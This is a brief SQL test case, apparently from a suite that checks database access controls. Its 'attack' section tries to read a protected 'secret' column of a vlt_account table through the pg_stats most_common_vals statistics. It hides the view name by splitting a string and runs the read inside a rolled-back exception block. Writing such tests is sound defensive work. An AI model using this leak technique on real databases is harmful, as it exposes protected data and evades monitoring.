-- Has a plan on harmless columns made, then reads values by text in a block that is rolled back, and again.
-- wants: read
-- setup:
ANALYZE vlt_account;
-- attack:
SELECT tablename, n_distinct FROM pg_stats WHERE tablename = 'vlt_account';
CREATE FUNCTION peek() RETURNS text LANGUAGE plpgsql AS $$ DECLARE x text; BEGIN
  BEGIN EXECUTE 'SELECT most_common_vals::text FROM pg_' || 'stats WHERE tablename = ''vlt_account'' AND attname = ''secret''' INTO x;
    RAISE division_by_zero; EXCEPTION WHEN division_by_zero THEN NULL; END;
  RETURN x; END $$;
SELECT peek();
SELECT peek();
SELECT peek();
